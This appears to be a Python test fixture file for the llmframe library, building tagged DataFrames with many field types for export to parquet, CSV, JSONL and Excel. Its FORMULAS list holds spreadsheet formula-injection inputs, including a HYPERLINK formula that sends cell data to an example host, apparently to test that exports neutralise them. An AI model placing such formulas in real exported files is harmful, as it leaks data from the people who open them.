"""Tagged frames without a server: every kind of field, answered, missing, or without rows."""

from __future__ import annotations

from datetime import date
from typing import Literal

import pandas as pd
import pyarrow.parquet as pq
import pytest
from pydantic import BaseModel

from llmframe.frame.columns import add_columns, plan_columns
from llmframe.options.settings import Settings
from llmframe.results import SKIPPED, RowResult
from llmframe.task.fields import resolve_fields
from tests.kits.columns import held

TEXT_DTYPE = pd.Series(["text"]).dtype
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]

CALLS = {
    "to_parquet": "out.parquet",
    "to_csv": "out.csv",
    "to_jsonl": "out.jsonl",
    "to_excel": "out.xlsx",
}
EVERY = pytest.mark.parametrize(("call", "name"), CALLS.items())


class Item(BaseModel):
    name: str
    count: int | None


class Order(BaseModel):
    number: str | None
    items: list[Item]
    weight: float


class Tree(BaseModel):
    name: str
    parts: list[Tree]


FIELDS = {
    "intent": ["refund", "other", "\u9000\u6b3e"],
    "level": [3, 1, 2],
    "stars": int,
    "share": float,
    "urgent": bool,
    "summary": str,
    "day": date,
    "topics": list[Literal["price", "quality"]],
    "numbers": list[int],
    "order": Order,
    "either": list[int | str],
    "tree": Tree,
}
FULL = {
    "intent": "other",
    "level": 1,
    "stars": 5,
    "share": 0.5,
    "urgent": True,
    "summary": "said \u201cyes\u201d, \u9000\u6b3e",
    "day": "2024-02-29",
    "topics": ["quality", "price"],
    "numbers": [2**53 + 1, 0],
    "order": {
        "number": None,
        "items": [{"name": "a", "count": 2**53 + 1}, {"name": "", "count": None}],
        "weight": 1.0,
    },
    "either": [1, "a"],
    "tree": {"name": "a", "parts": [{"name": "b", "parts": []}]},
}
BARE = {
    **dict.fromkeys(FULL),
    "summary": "",
    "topics": [],
    "numbers": [],
    "order": {"number": "7", "items": [], "weight": 0.0},
    "either": [],
}
INFO = {
    "model": "test-model",
    "endpoint": "api.example.org",
    "checkpoint": "somewhere/.llmframe/abc.jsonl",
    "counts": {"rows": 3, "ok": 2, "failed": 0, "skipped": 1, "pending": 0},
    "tokens_in": 10,
    "tokens_out": 5,
    "cost": 0.25,
}
ROWS = {"answered": [FULL, BARE, None], "all missing": [None] * 3, "empty": []}


def tagged(answers=(FULL, BARE, None), *, fields=None, index=None, texts=None, pending=()):
    """A frame as a call leaves it. answers: a dict a row, None for a row that was skipped."""
    specs = resolve_fields(FIELDS if fields is None else fields).specs
    texts = [f"record {i}" for i in range(len(answers))] if texts is None else texts
    df = pd.DataFrame({"text": pd.Series(texts, dtype=TEXT_DTYPE)})
    if index is not None:
        df.index = index
    settings = Settings(details=True)
    plan = plan_columns(df, specs, settings, inputs=("text",), task="0123456789ab")
    results = [SKIPPED if answer is None else RowResult("ok", answer) for answer in answers]
    for position in pending:
        results[position] = None
    return add_columns(df, plan, held(results), info=INFO)


def written(df, tmp_path, **options):
    return df.llm.to_parquet(tmp_path / "out.parquet", **options)


def schema_of(path):
    return pq.read_schema(path).remove_metadata()
